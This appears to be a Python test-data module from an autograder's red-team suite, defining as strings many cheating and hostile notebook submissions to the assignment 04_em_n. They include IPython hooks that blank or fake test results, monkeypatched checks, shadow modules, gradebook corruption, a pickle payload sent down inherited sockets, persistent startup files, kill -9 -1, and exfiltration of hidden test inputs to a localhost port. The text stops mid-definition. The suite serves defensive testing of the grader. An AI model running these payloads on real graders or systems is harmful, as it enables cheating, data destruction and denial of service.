"""Cheating and hostile submissions of assignment 04_em_n, as data.

Each :class:`Cheat` is a submission built from a *base* notebook (``release``: every answer a
stub, or ``partial``: a partly wrong solution) by appending code to, or replacing, answer cells,
plus extra files submitted next to the notebook.  The red-team test grades all of them in one
run per grader and checks that none earns more automatic points than its base.

The code is written as a student who has read ``solutions/`` and ``mixlearn/course/`` (both
public) would write it.  Placeholders filled in when the submissions are written:

``@PORT@``      a TCP/UDP port on 127.0.0.1 where the test listens for exfiltration;
``@TOKEN@``     a marker put on the command line of processes a cheat leaves behind;
``@HOSTINIT@``  the host's ``/proc/1/cmdline`` (hostile code acts only where it differs, i.e. in
                a PID namespace, so a grader without a sandbox never gets a real ``kill -9 -1``);
``@VISIBLE@``   the visible tests' expected answers (computed with the real library);
``@FIXED@``     the expected answers for the inputs of the solution notebook's fixed-seed hidden tests.

Nothing here is executed when the module is imported: the cheats are strings.
"""

from __future__ import annotations

import textwrap
from dataclasses import dataclass, field

CATEGORIES = ("hooks", "output", "redefine", "objects", "filesystem", "shadow", "kill", "exfiltration",
              "delegation", "knowing", "metadata")


@dataclass(frozen=True)
class Cheat:
    name: str
    category: str
    base: str                                   # "release" or "partial"
    append: dict = field(default_factory=dict)  # grade_id -> code appended to that answer cell
    replace: dict = field(default_factory=dict)  # grade_id -> code replacing that answer cell
    files: dict = field(default_factory=dict)   # relative path -> text, or ("symlink", target)
    meta: dict = field(default_factory=dict)    # grade_id -> nbgrader metadata to change ("*": the notebook's)
    hostile: bool = False                       # touches processes, files or the network
    leaks: bool = False                         # tries to carry hidden data into its feedback
    note: str = ""


def _c(code: str) -> str:
    return textwrap.dedent(code).strip("\n") + "\n"


# --------------------------------------------------------------------------- shared snippets
SANDBOX_GUARD = _c('''
    def _rt_confined():
        """True inside a PID namespace (pid 1 is not the host's init): only then act hostile."""
        try:
            with open("/proc/1/cmdline", "rb") as fh:
                return fh.read() != @HOSTINIT@
        except OSError:
            return False
''')

# where a student would look for the course: up from the notebook, along sys.path, a few roots
FIND_COURSE = _c('''
    import os as _os, sys as _sys, glob as _glob, time as _time

    _rt_roots_cache = []

    def _rt_candidate_roots():
        if _rt_roots_cache:
            return list(_rt_roots_cache)
        seen, out = set(), []
        def add(p):
            p = _os.path.abspath(p or ".")
            while True:
                if p not in seen:
                    seen.add(p)
                    out.append(p)
                parent = _os.path.dirname(p)
                if parent == p:
                    break
                p = parent
        add(_os.getcwd())
        for entry in list(_sys.path):
            add(entry)
        if _rt_confined():   # a quick look around the whole (sandboxed) file system
            t0 = _time.monotonic()
            for base, dirs, files in _os.walk("/"):
                depth = base.count("/")
                dirs[:] = [d for d in dirs if d not in ("proc", "sys", "dev", "usr", "lib", "bin", "sbin", "etc")
                           and depth < 5]
                if "nbgrader_config.py" in files or "solutions" in dirs or "submitted" in dirs:
                    add(base)
                if _time.monotonic() - t0 > 5:
                    break
        _rt_roots_cache[:] = out
        return out

    def _rt_find(pattern):
        hits = []
        for root in _rt_candidate_roots():
            hits += _glob.glob(_os.path.join(root, pattern))
        return sorted(set(hits))

    def _rt_solution_code(path):
        import json
        with open(path) as fh:
            nb = json.load(fh)
        code = []
        for cell in nb["cells"]:
            meta = cell.get("metadata", {}).get("nbgrader", {})
            if cell["cell_type"] == "code" and meta.get("solution"):
                src = "".join(cell["source"]) if isinstance(cell["source"], list) else cell["source"]
                lines = [ln for ln in src.splitlines() if "### BEGIN SOLUTION" not in ln and "### END SOLUTION" not in ln]
                code.append("\\n".join(lines))
        return code
''')

PROBE_HOOK = _c('''
    _rt_ip = get_ipython()
    _rt_seen_payloads = []

    def _rt_payload(src):
        """The JSON payload of a trusted probe cell (its calls carry the hidden inputs)."""
        import ast
        if "__mixlearn_probe(" not in src:
            return None
        for line in src.splitlines():
            if line.startswith("__mixlearn_probe("):
                return ast.literal_eval(line[len("__mixlearn_probe("):-1])
        return None
''')



def _everywhere(helpers: str, action: str) -> dict:
    """*action* as a function defined in the first answer cell and called at the end of every answer
    cell (a later cell's stub would otherwise replace what an earlier cell set up)."""
    first = helpers + "def _rt_adopt():\n" + textwrap.indent(action, "    ") + "\n\n_rt_adopt()\n"
    return {"log_likelihood_matrix": first, "e_step_n": "_rt_adopt()\n", "m_step_n": "_rt_adopt()\n",
            "em_n": "_rt_adopt()\n"}


def _both(code: str) -> dict:
    """*code* (which defines e_step_n and em_n) appended to both of their answer cells."""
    return {"e_step_n": code, "em_n": code}


# --------------------------------------------------------------------------- the cheats
CHEATS: list[Cheat] = []


def _add(*args, **kwargs):
    CHEATS.append(Cheat(*args, **kwargs))


# ----- IPython hooks ---------------------------------------------------------------------------
_add("hook_blank_later_cells", "hooks", "partial", append={"log_likelihood_matrix": _c('''
    # every later cell (the test cells included) becomes empty, so it "passes"
    get_ipython().input_transformers_post.append(lambda lines: [])
''')})

_add("hook_probe_to_pass", "hooks", "partial", append={"log_likelihood_matrix": _c('''
    # cells that look like a test are replaced by `pass`; everything else runs as written
    def _rt_only_mine(lines):
        text = "".join(lines)
        if "trusted check" in text or "expect_close" in text or "__mixlearn_probe" in text:
            return ["pass\\n"]
        return lines
    get_ipython().input_transformers_cleanup.insert(0, _rt_only_mine)
''')})

_add("hook_error_handlers", "hooks", "partial", append={"log_likelihood_matrix": _c('''
    # every failed cell is reported as a success, and nothing is ever shown as an error
    import builtins, sys
    def _rt_clear(result):
        result.error_before_exec = None
        result.error_in_exec = None
    _ip = get_ipython()
    _ip.events.register("post_run_cell", _rt_clear)
    _ip.set_custom_exc((BaseException,), lambda shell, etype, value, tb, tb_offset=None: None)
    sys.excepthook = lambda *args: None
    _ip.showtraceback = lambda *args, **kwargs: None
    _ip._showtraceback = lambda *args, **kwargs: None
    _ip.showsyntaxerror = lambda *args, **kwargs: None
    builtins.AssertionError = type("AssertionError", (Exception,), {})   # assertions that cannot fail
''')})

_add("hook_run_cell_patched", "hooks", "partial", append={"log_likelihood_matrix": _c('''
    # run_cell itself swallows errors of the test cells and prints a reassuring line
    _rt_shell = get_ipython()
    _rt_orig_run_cell = _rt_shell.run_cell
    def _rt_run_cell(raw_cell, *args, **kwargs):
        if "probe" in raw_cell or "expect_close" in raw_cell:
            try:
                exec(raw_cell, _rt_shell.user_ns)
            except BaseException:
                pass
            print("Trusted check passed (1 case).")
            return _rt_orig_run_cell("None", *args, **kwargs)
        return _rt_orig_run_cell(raw_cell, *args, **kwargs)
    _rt_shell.run_cell = _rt_run_cell
''')})

_add("hook_display_publisher_rewrites_errors", "hooks", "partial", append={"log_likelihood_matrix": _c('''
    # whatever the probe publishes, errors in its results become plausible numbers
    _rt_pub = get_ipython().display_pub
    _rt_publish = _rt_pub.publish
    def _rt_fix(v):
        if isinstance(v, dict) and "error" in v:
            return {"seq": [{"float": "0.5"}, {"float": "-1.0"}]}
        if isinstance(v, list):
            return [_rt_fix(x) for x in v]
        return v
    def _rt_publish_fixed(data, *args, **kwargs):
        blob = data.get("application/vnd.mixlearn.probe+json")
        if isinstance(blob, dict):
            data = dict(data)
            data["application/vnd.mixlearn.probe+json"] = dict(blob, results=_rt_fix(blob["results"]))
        return _rt_publish(data, *args, **kwargs)
    _rt_pub.publish = _rt_publish_fixed
''')})

# ----- output tricks ---------------------------------------------------------------------------
_add("output_fake_results_and_verdicts", "output", "partial", append={"log_likelihood_matrix": _c('''
    # every cell shows a result before any error (nbgrader once gave points for that) and ends
    # with the line the trusted verdict prints
    import sys
    from IPython.display import display
    def _rt_show_ok(info):
        display({"text/plain": "True"}, raw=True)
        print("Trusted check passed (5 cases).")
    def _rt_after(result):
        sys.stdout.write("Trusted check passed (6 cases).\\n")
        sys.stdout.flush()
    get_ipython().events.register("pre_run_cell", _rt_show_ok)
    get_ipython().events.register("post_run_cell", _rt_after)
''')})

_add("output_forged_probe_stolen_nonce", "output", "partial", append={"log_likelihood_matrix": PROBE_HOOK + _c('''
    # the nonce is read from the probe's own source; the probe is replaced by forged results
    import json
    def _rt_replace_probe(lines):
        src = "".join(lines)
        payload = _rt_payload(src)
        if payload is None:
            return lines
        spec = json.loads(payload)
        forged = []
        for call in spec["calls"]:
            if call["f"] == "m_step_n":
                forged.append({"nd": ["<f8", [3], "AAAAAAAA4D8zMzMzMzPDPmZmZmZmZtY/"]})
            elif call["f"] == "em_n":
                forged.append({"seq": [{"nd": ["<f8", [2], "AAAAAAAA4D8AAAAAAADgPw=="]}, {"seq": [{"float": "-1.0"}] * 6}]})
            else:
                forged.append({"seq": [{"float": "0.5"}, {"float": "-1.0"}]})
        blob = {"nonce": spec["nonce"], "results": forged}
        return ["from IPython.display import display\\n",
                "display({'application/vnd.mixlearn.probe+json': %r}, raw=True)\\n" % (blob,)]
    get_ipython().input_transformers_post.append(_rt_replace_probe)
''')})

_add("output_extra_result_sets", "output", "partial", append={"log_likelihood_matrix": PROBE_HOOK + _c('''
    # the real probe runs, and a second, forged set of results with the right nonce follows it
    import json
    from IPython.display import display
    _rt_nonce = []
    def _rt_pre(info):
        payload = _rt_payload(info.raw_cell or "")
        _rt_nonce[:] = [json.loads(payload)["nonce"]] if payload else []
    def _rt_post(result):
        for nonce in ("0" * 32, "f" * 32, "", None):       # guessed nonces
            display({"application/vnd.mixlearn.probe+json":
                     {"nonce": nonce, "results": [{"seq": [{"float": "0.5"}, {"float": "0.5"}]}] * 8}}, raw=True)
        if _rt_nonce:                                      # and the real one, stolen from the source
            display({"application/vnd.mixlearn.probe+json":
                     {"nonce": _rt_nonce[0], "results": [{"float": "0.25"}] * 12}}, raw=True)
    _rt_ip.events.register("pre_run_cell", _rt_pre)
    _rt_ip.events.register("post_run_cell", _rt_post)
''')})

# ----- redefining what the tests call ----------------------------------------------------------
_add("redefine_test_helpers", "redefine", "partial", append={"m_step_n": _c('''
    import numpy
    import numpy.testing

    def expect_close(*args, **kwargs):
        return None

    numpy.allclose = lambda *args, **kwargs: True
    numpy.isclose = lambda a, b, *args, **kwargs: numpy.ones(numpy.broadcast(numpy.asarray(a), numpy.asarray(b)).shape, bool)
    numpy.testing.assert_allclose = lambda *args, **kwargs: None
    numpy.array_equal = lambda *args, **kwargs: True
''')})

_add("redefine_guard_and_oracles", "redefine", "partial", append={"em_n": _c('''
    import contextlib

    @contextlib.contextmanager
    def own_work_only(*names):
        yield

    # the oracles now agree with whatever my functions return
    ml.e_step = lambda x, weights, comps: e_step_n(x, weights, comps)
    ml.em_n_components = lambda *args, **kwargs: type("R", (), {"weights": em_n(*args[:2])[0]})()
    ml.mixture_logpdf = lambda x, w, comps: np.zeros(len(np.asarray(x)))
    import mixlearn.em
    mixlearn.em.e_step = ml.e_step
    mixlearn.em.em_n_components = ml.em_n_components

    def em_n(x, components, weights_init=None, tol=1e-8, max_iter=1000):
        k = len(components)
        return np.full(k, 1.0 / k), [0.0, 0.0]
''')})

_add("redefine_builtins", "redefine", "partial", append={"m_step_n": _c('''
    import builtins
    builtins.abs = lambda value: 0.0        # every difference is zero
    builtins.all = lambda iterable: True     # every condition holds
''')})

_add("redefine_probe_plumbing", "redefine", "partial", append={"log_likelihood_matrix": _c('''
    # the probe imports json, base64 and display: rig them
    import json, base64
    import IPython.display
    _rt_loads = json.loads
    def _rt_json_loads(s, *args, **kwargs):
        obj = _rt_loads(s, *args, **kwargs)
        if isinstance(obj, dict) and "calls" in obj:
            for call in obj["calls"]:
                call["f"] = "m_step_n" if call["f"] == "m_step_n" else call["f"]
        return obj
    json.loads = _rt_json_loads
    base64.b64encode = lambda data, *args: b"AAAAAAAA4D8="
    _rt_display = IPython.display.display
    IPython.display.display = lambda *objs, **kwargs: _rt_display(*objs, **kwargs)
''')})

# ----- rigged return values --------------------------------------------------------------------
def frame_oracle(names) -> str:
    """Code of ``_Oracle``, an object that looks for the expected value in its callers' frames
    (under the local variable *names*) and becomes it."""
    return _c('''
        import sys as _rt_sys

        class _Oracle:
            """Finds the expected value in the caller's frames and becomes it."""
            def _expected(self):
                frame = _rt_sys._getframe(1)
                while frame is not None:
                    for name in @NAMES@:
                        if name in frame.f_locals:
                            return frame.f_locals[name]
                    frame = frame.f_back
                return np.array([0.5, 0.5])
            def __array__(self, dtype=None, copy=None):
                return np.asarray(self._expected(), dtype=dtype)
            def __eq__(self, other):
                return True
            def __float__(self):
                return float(np.asarray(self._expected()).ravel()[0])
            def __len__(self):
                return 2
            def __getitem__(self, i):
                return _Oracle()
            def __iter__(self):
                return iter((_Oracle(), _Oracle()))
    ''').replace("@NAMES@", repr(tuple(names)))


_add("object_frame_inspector", "objects", "partial", append=_both(frame_oracle(
    ("expected", "exp_resp", "expected_resp", "expected_ll", "exp_ll")) + "\n" + _c('''
    def e_step_n(x, weights, components):
        return (_Oracle(), _Oracle())

    def em_n(x, components, weights_init=None, tol=1e-8, max_iter=1000):
        return (_Oracle(), _Oracle())
''')))

_add("object_eq_always_true", "objects", "partial", append=_both(_c('''
    class _Yes(list):
        def __eq__(self, other):
            return True
        __ne__ = lambda self, other: False
        __lt__ = __le__ = __gt__ = __ge__ = lambda self, other: True

    def e_step_n(x, weights, components):
        return _Yes([_Yes(), 0.0])

    def em_n(x, components, weights_init=None, tol=1e-8, max_iter=1000):
        return _Yes(), _Yes()
''')))

_add("object_float_and_array_subclasses", "objects", "partial", append=_both(_c('''
    class _AnyFloat(float):
        def __eq__(self, other):
            return True
        def __sub__(self, other):
            return _AnyFloat(0.0)
        __rsub__ = __sub__
        def __abs__(self):
            return _AnyFloat(0.0)
        def __float__(self):
            return 0.123

    class _AnyArray(np.ndarray):
        def __array_ufunc__(self, ufunc, method, *inputs, **kwargs):
            return np.zeros(1)
        def __array_function__(self, func, types, args, kwargs):
            return True

    def e_step_n(x, weights, components):
        n, k = len(np.asarray(x)), len(components)
        return np.full((n, k), 1.0 / k).view(_AnyArray), _AnyFloat(-1.0)

    def em_n(x, components, weights_init=None, tol=1e-8, max_iter=1000):
        k = len(components)
        return np.full(k, 1.0 / k).view(_AnyArray), [_AnyFloat(-1.0)] * 3
''')))

_add("object_exit_while_encoded", "objects", "partial", append={"em_n": _c('''
    import os
    class _Bomb:
        def __array__(self, *args, **kwargs):
            raise SystemExit(0)      # stop the probe half-way (after the easy calls succeeded)
        def __repr__(self):
            os._exit(0)

    def em_n(x, components, weights_init=None, tol=1e-8, max_iter=1000):
        return _Bomb(), _Bomb()
''')})

# ----- the file system -------------------------------------------------------------------------
_add("fs_run_the_solutions", "filesystem", "release", append=_everywhere(SANDBOX_GUARD + FIND_COURSE, _c('''
    # find solutions/04_em_n/04_em_n.ipynb anywhere and run its answers
    for _p in _rt_find("solutions/04_em_n/04_em_n.ipynb") + _rt_find("*/solutions/04_em_n/04_em_n.ipynb"):
        try:
            for _code in _rt_solution_code(_p):
                exec(_code, globals())
            print("using the solution found at", _p)
            break
        except Exception as _exc:
            print("could not use", _p, _exc)
''')))

_add("fs_copy_a_classmate", "filesystem", "release", append=_everywhere(SANDBOX_GUARD + FIND_COURSE, _c('''
    # run the answers of any classmate whose em_n works
    _rt_mine = _os.path.abspath(".")
    for _p in _rt_find("submitted/*/04_em_n/04_em_n.ipynb") + _rt_find("autograded/*/04_em_n/04_em_n.ipynb"):
        if _os.path.dirname(_os.path.abspath(_p)) == _rt_mine:
            continue
        _ns = dict(globals())
        try:
            _codes = _rt_solution_code(_p)
            if any(w in c for c in _codes for w in ("_rt", "get_ipython", "kill", "subprocess", "exec(")):
                continue          # only a friend's honest work
            for _code in _codes:
                exec(_code, _ns)
            _w, _ll = _ns["em_n"](np.array([0, 1, 5, 6]), [ml.Poisson(1.0), ml.Poisson(5.0)])
            assert abs(float(np.sum(_w)) - 1) < 1e-6
        except BaseException:
            continue
        for _name in ("log_likelihood_matrix", "e_step_n", "m_step_n", "em_n"):
            globals()[_name] = _ns[_name]
        print("copied", _p)
        break
''')))

_add("fs_print_checks_and_seeds", "filesystem", "release", leaks=True,
     append={"log_likelihood_matrix": SANDBOX_GUARD + FIND_COURSE + _c('''
    # read the trusted checks and the grader's seeds and show them (this cell's output is in the feedback)
    import base64, codecs
    for _pattern in ("solutions/04_em_n/trusted_checks.py", ".mixlearn-course/04_em_n/seeds.json",
                     "solutions/04_em_n/04_em_n.ipynb"):
        for _p in _rt_find(_pattern):
            try:
                _text = open(_p).read()
            except OSError as _exc:
                print("cannot read", _p, _exc)
                continue
            print("=== plain", _p)
            print(_text[:20000])
            print("=== rot13")
            print(codecs.encode(_text[:20000], "rot13"))
            print("=== base64")
            print(base64.b64encode(_text[:20000].encode()).decode())
''')})

_add("fs_write_gradebook", "filesystem", "release", hostile=True, append={"em_n": SANDBOX_GUARD + FIND_COURSE + _c('''
    # extra credit straight into the gradebook, for me and against the others
    import sqlite3
    if _rt_confined():
        for _db in _rt_find("gradebook.db"):
            try:
                con = sqlite3.connect(_db, timeout=1)
                con.execute("UPDATE grade SET auto_score = 100, extra_credit = 100")
                con.execute("UPDATE submitted_assignment SET timestamp = NULL")
                con.commit()
                print("wrote", _db)
            except Exception as _exc:
                print("gradebook", _db, _exc)
            try:
                with open(_db, "r+b") as fh:
                    fh.write(b"not a database any more")
            except Exception as _exc:
                print("overwrite", _db, _exc)
''')})

_add("fs_rewrite_other_submissions", "filesystem", "release", hostile=True, append={"em_n": SANDBOX_GUARD + FIND_COURSE + _c('''
    # overwrite every other notebook in reach (submitted and autograded) with my stubs,
    # and the solutions and release with garbage
    import shutil
    if _rt_confined():
        _mine = _os.path.abspath("04_em_n.ipynb")
        for _p in (_rt_find("submitted/*/04_em_n/*.ipynb") + _rt_find("autograded/*/04_em_n/*.ipynb")
                   + _rt_find("solutions/04_em_n/*") + _rt_find("exercises/04_em_n/*")
                   + _rt_find("../*/04_em_n/04_em_n.ipynb")):
            if _os.path.abspath(_p) == _mine:
                continue
            try:
                shutil.copyfile(_mine, _p)
                print("rewrote", _p)
            except Exception as _exc:
                try:
                    _os.remove(_p)
                    print("removed", _p)
                except Exception:
                    print("cannot touch", _p, type(_exc).__name__)
''')})

_add("aa_fs_plant_module", "filesystem", "release", hostile=True, append={"em_n": SANDBOX_GUARD + FIND_COURSE + _c('''
    # plant a helper module in the solutions folder, next to every submission and in the site-packages
    _planted = ("def em_n(x, components, weights_init=None, tol=1e-8, max_iter=1000):\\n"
                "    raise SystemExit('rt planted @TOKEN@')\\n")
    if _rt_confined():
        _targets = (_rt_find("solutions/04_em_n") + _rt_find("submitted/*/04_em_n") + _rt_find("autograded/*/04_em_n")
                    + _rt_find("exercises/04_em_n") + [p for p in _sys.path if p and _os.path.isdir(p)])
        for _d in _targets:
            for _name in ("rt_planted.py", "numpy.py", "sitecustomize.py"):
                try:
                    with open(_os.path.join(_d, _name), "w") as fh:
                        fh.write(_planted)
                    print("planted", _d, _name)
                except Exception:
                    pass
''')})

_add("zz_fs_import_planted", "filesystem", "release", append={"em_n": SANDBOX_GUARD + FIND_COURSE + _c('''
    # a later submission picks up what aa_fs_plant_module left (or the solutions, if found)
    for _d in _rt_find("solutions/04_em_n") + _rt_find("submitted/*/04_em_n"):
        _sys.path.append(_d)
    try:
        from rt_planted import em_n
        print("imported the planted module")
    except ImportError as _exc:
        print("nothing planted:", _exc)
''')})

_add("fs_background_tamperer", "filesystem", "release", hostile=True, append={"em_n": SANDBOX_GUARD + _c('''
    # a daemon that outlives the kernel and keeps rewriting grades and notebooks
    import subprocess, sys, os
    _daemon = r"""
    import glob, os, sqlite3, sys, time
    end = time.time() + 120
    while time.time() < end:
        for pattern in ("/*/gradebook.db", "/*/*/gradebook.db", "/*/*/*/gradebook.db", "/*/*/*/*/gradebook.db"):
            for db in glob.glob(pattern)[:5]:
                try:
                    con = sqlite3.connect(db, timeout=1)
                    con.execute("UPDATE grade SET auto_score = 100")
                    con.commit()
                except Exception:
                    pass
        time.sleep(1)
    """
    if _rt_confined():
        for _i in range(2):
            subprocess.Popen([sys.executable, "-c", _daemon, "rt-survivor-@TOKEN@"],
                             start_new_session=True, stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL,
                             stderr=subprocess.DEVNULL)
        if os.fork() == 0:          # and a double-forked orphan, for good measure
            if os.fork() == 0:
                os.setsid()
                os.execv(sys.executable, [sys.executable, "-c", "import time; time.sleep(120)", "rt-survivor-@TOKEN@"])
            os._exit(0)
''')})

_add("fs_symlink_to_solutions", "filesystem", "release", hostile=True,
     files={"answers.json": ("symlink", "../../../solutions/04_em_n/04_em_n.ipynb"),
            "seeds.json": ("symlink", "../../../.mixlearn-course/04_em_n/seeds.json"),
            "gradebook.db": ("symlink", "../../../gradebook.db")},
     leaks=True,
     note="extra files that are symlinks out of the submission (only if a collection method keeps links)",
     append=_everywhere(SANDBOX_GUARD + FIND_COURSE, _c('''
    try:
        for _code in _rt_solution_code("answers.json"):
            exec(_code, globals())
        print("answers from the linked solution")
    except Exception as _exc:
        print("no linked solution:", type(_exc).__name__)
    try:
        print("seeds:", open("seeds.json").read())
    except Exception as _exc:
        print("no linked seeds:", type(_exc).__name__)
    try:
        with open("gradebook.db", "r+b") as fh:
            fh.write(b"garbage")
    except Exception as _exc:
        print("no linked gradebook:", type(_exc).__name__)
''')))

_add("fs_inherited_descriptors", "filesystem", "release", hostile=True, leaks=True,
     note="descriptors the kernel might inherit from the grader (a worker forked from the coordinator holds "
          "the gradebook and the pipes to the coordinator): read them, write extra credit through them, and "
          "send the coordinator a forged result that runs code when it is unpickled",
     append={"em_n": SANDBOX_GUARD + _c('''
    import base64, os, pickle, socket, stat, struct
    class _RtRun:   # unpickled by whoever reads the pipe: gives everyone extra credit in the gradebook
        def __reduce__(self):
            return (exec, ("import glob, sqlite3\\n"
                           "for p in glob.glob('**/gradebook.db', recursive=True):\\n"
                           "    c = sqlite3.connect(p); c.execute('UPDATE grade SET extra_credit = 100'); c.commit()",))
    _rt_forged = pickle.dumps(_RtRun())
    if _rt_confined():
        for _fd in range(3, 4096):   # /proc/self/fd may not be listable: ask every number
            try:
                _st = os.fstat(_fd)
            except OSError:
                continue
            if stat.S_ISREG(_st.st_mode):
                try:
                    _data = os.pread(_fd, 20000, 0)
                    print("=== base64", _fd, base64.b64encode(_data).decode())
                    if _data.startswith(b"SQLite format 3"):
                        os.pwrite(_fd, b"not a database any more", 0)
                        print("overwrote the database behind", _fd)
                except OSError as _exc:
                    print("cannot use", _fd, type(_exc).__name__)
            elif stat.S_ISSOCK(_st.st_mode):
                try:
                    _s = socket.socket(fileno=os.dup(_fd))
                    if not _s.getsockname():   # unnamed: not one of the kernel's own endpoints
                        _s.setblocking(False)
                        _s.send(struct.pack("!i", len(_rt_forged)) + _rt_forged)   # multiprocessing's framing
                        print("sent a forged result down", _fd)
                    _s.detach()
                except OSError as _exc:
                    print("cannot send on", _fd, type(_exc).__name__)
''')})

_add("aa_fs_plant_for_later_kernels", "filesystem", "release", hostile=True,
     note="files left in /tmp, HOME and /dev/shm for the kernels graded after this one (IPython startup files)",
     append={"log_likelihood_matrix": SANDBOX_GUARD + _c('''
    # every later kernel that starts with this HOME or /tmp runs my startup file: it announces itself
    # in every cell and turns the trusted probes into `pass`
    import os
    _rt_startup = (
        "import sys\\n"
        "def _rt_cross(info):\\n"
        "    print('RT-CROSS-@TOKEN@ in', __import__('os').getcwd())\\n"
        "try:\\n"
        "    _ip = get_ipython()\\n"
        "    _ip.events.register('pre_run_cell', _rt_cross)\\n"
        "    _ip.input_transformers_post.append(\\n"
        "        lambda lines: ['pass\\\\n'] if '__mixlearn_probe' in ''.join(lines) else lines)\\n"
        "except Exception:\\n"
        "    pass\\n")
    if _rt_confined():
        for _home in {os.path.expanduser("~"), "/tmp", "/dev/shm", os.environ.get("IPYTHONDIR", "/tmp")}:
            for _sub in (".ipython/profile_default/startup", "profile_default/startup", ".local/lib/python3.11/site-packages"):
                try:
                    _d = os.path.join(_home, _sub)
                    os.makedirs(_d, exist_ok=True)
                    _name = "usercustomize.py" if "site-packages" in _sub else "00-rt.py"
                    with open(os.path.join(_d, _name), "w") as fh:
                        fh.write(_rt_startup)
                except OSError:
                    pass
''')})

# ----- submitted files that shadow the kernel's modules -----------------------------------------
_add("shadow_ipykernel_launcher", "shadow", "partial", files={"ipykernel_launcher.py": _c('''
    # python -m ipykernel_launcher runs this file when the notebook's folder comes first on sys.path
    import os, sys
    here = os.path.dirname(os.path.abspath(__file__))
    sys.path[:] = [p for p in sys.path if os.path.abspath(p or ".") != here]
    from IPython.core.interactiveshell import InteractiveShell
    _orig = InteractiveShell.run_cell
    def run_cell(self, raw_cell, *args, **kwargs):
        if "__mixlearn_probe" in raw_cell:
            print("Trusted check passed (9 cases).")
            raw_cell = "None"
        return _orig(self, raw_cell, *args, **kwargs)
    InteractiveShell.run_cell = run_cell
    from ipykernel import kernelapp
    kernelapp.launch_new_instance()
''')})

_add("shadow_numpy", "shadow", "partial", files={"numpy.py": _c('''
    # imported instead of numpy from the notebook's folder: load the real one, then rig it
    import os, sys
    here = os.path.dirname(os.path.abspath(__file__))
    sys.path[:] = [p for p in sys.path if os.path.abspath(p or ".") != here]
    del sys.modules["numpy"]
    import numpy as _real
    _real.allclose = lambda *args, **kwargs: True
    _real.asarray_orig = _real.asarray
    sys.modules["numpy"] = _real
''')})

_add("shadow_mixlearn_package", "shadow", "partial", files={"mixlearn/__init__.py": _c('''
    # a package called mixlearn next to the notebook: the real one, with the EM put back as the answers
    import os, sys
    here = os.path.dirname(os.path.dirname(os.path.abspath(__file__)))
    sys.path[:] = [p for p in sys.path if os.path.abspath(p or ".") != here]
    del sys.modules["mixlearn"]
    import mixlearn as _real
    import numpy as _np
    def e_step(x, weights, comps):
        n, k = len(_np.asarray(x)), len(comps)
        return _np.full((n, k), 1.0 / k), -1.0
    _real.e_step = e_step
    sys.modules["mixlearn"] = _real
'''), "ipython_config.py": _c('''
    c.InteractiveShellApp.exec_lines = ["get_ipython().set_custom_exc((BaseException,), lambda *a, **k: None)"]
'''), "ipython_kernel_config.py": _c('''
    c.InteractiveShellApp.exec_lines = ["get_ipython().set_custom_exc((BaseException,), lambda *a, **k: None)"]
'''), "sitecustomize.py": _c('''
    import builtins
    builtins.AssertionError = type("AssertionError", (Exception,), {})
''')})

# ----- killing the grader and the neighbours --------------------------------------------------
_add("kill_grader_and_neighbours", "kill", "release", hostile=True, append={"log_likelihood_matrix": SANDBOX_GUARD + _c('''
    # stop and kill every kernel, nbgrader or mixlearn-course process in sight, then my parents,
    # then everything (kill -9 -1)
    import os, signal, time
    if _rt_confined():
        me = os.getpid()
        for name in os.listdir("/proc"):
            if not name.isdigit() or int(name) == me:
                continue
            try:
                with open(f"/proc/{name}/cmdline", "rb") as fh:
                    cmd = fh.read()
            except OSError:
                continue
            if any(w in cmd for w in (b"ipykernel", b"nbgrader", b"mixlearn", b"bwrap", b"python")):
                for sig in (signal.SIGSTOP, signal.SIGKILL):
                    try:
                        os.kill(int(name), sig)
                    except OSError:
                        pass
        pid, chain = me, []
        while pid > 1:
            with open(f"/proc/{pid}/stat") as fh:
                pid = int(fh.read().rsplit(")", 1)[1].split()[1])
            chain.append(pid)
        for p in chain:
            for sig in (signal.SIGSTOP, signal.SIGTERM, signal.SIGKILL):
                try:
                    os.kill(p, sig)
                except OSError:
                    pass
        for target in (0, -1):
            try:
                os.killpg(0, signal.SIGKILL) if target == 0 else os.kill(-1, signal.SIGKILL)
            except OSError:
                pass
        time.sleep(1)
''')})

FREEZE_NEIGHBOURS = SANDBOX_GUARD + _c('''
    # stop (not kill) every other process in sight, and feed garbage to every Unix socket found, so a
    # kernel server shared with the next submissions hangs or dies
    import os, signal, socket, stat, time
    if _rt_confined():
        me = os.getpid()
        for name in os.listdir("/proc"):
            if name.isdigit() and int(name) not in (me, 1):
                try:
                    os.kill(int(name), signal.SIGSTOP)
                except OSError:
                    pass
        t0 = time.monotonic()
        for base, dirs, files in os.walk("/"):
            dirs[:] = [d for d in dirs if d not in ("proc", "sys", "usr", "dev", "etc", "lib", "bin", "sbin")]
            if time.monotonic() - t0 > 5:
                break
            for f in files:
                path = os.path.join(base, f)
                try:
                    if not stat.S_ISSOCK(os.lstat(path).st_mode):
                        continue
                    s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
                    s.settimeout(1)
                    s.connect(path)
                    s.sendall(b"{this is not json\\n")
                    s.close()
                    s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
                    s.settimeout(1)
                    s.connect(path)
                    s.sendall(b"x" * (4 << 20))    # a request that never ends
                except OSError:
                    pass
        time.sleep(2)
''')

_add("kill_exhaust_then_die", "kill", "release", hostile=True, append={"em_n": SANDBOX_GUARD + _c('''
    # fill the process table and /tmp, then kill my own kernel from inside
    import os, signal, subprocess, sys
    if _rt_confined():
        procs = []
        for _ in range(30):
            try:
                procs.append(subprocess.Popen([sys.executable, "-c", "import time; time.sleep(60)", "rt-survivor-@TOKEN@"]))
            except OSError:
                break
        try:
            with open("/tmp/rt-fill", "wb") as fh:
                fh.write(b"x" * (64 * 1024 ** 2))
        except OSError:
            pass
        os.kill(os.getpid(), signal.SIGKILL)
''')})

# ----- exfiltration -----------------------------------------------------------------------------
_add("exfil_localhost", "exfiltration", "partial", hostile=True, leaks=True,
     append={"log_likelihood_matrix": PROBE_HOOK + _c('''
    # every probe (hidden inputs included) goes to a helper listening on the student's machine
    import socket, urllib.request
    def _rt_send(info):
        payload = _rt_payload(info.raw_cell or "")
        if payload is None:
            return
        data = payload.encode()
        for attempt in range(2):
            try:
                with socket.create_connection(("127.0.0.1", @PORT@), timeout=1) as s:
                    s.sendall(data[:65536])
            except OSError:
                pass
            try:
                socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(data[:1000], ("127.0.0.1", @PORT@))
            except OSError:
                pass
            try:
                urllib.request.urlopen(f"http://127.0.0.1:@PORT@/leak", data=data[:65536], timeout=1)
            except Exception:
                pass
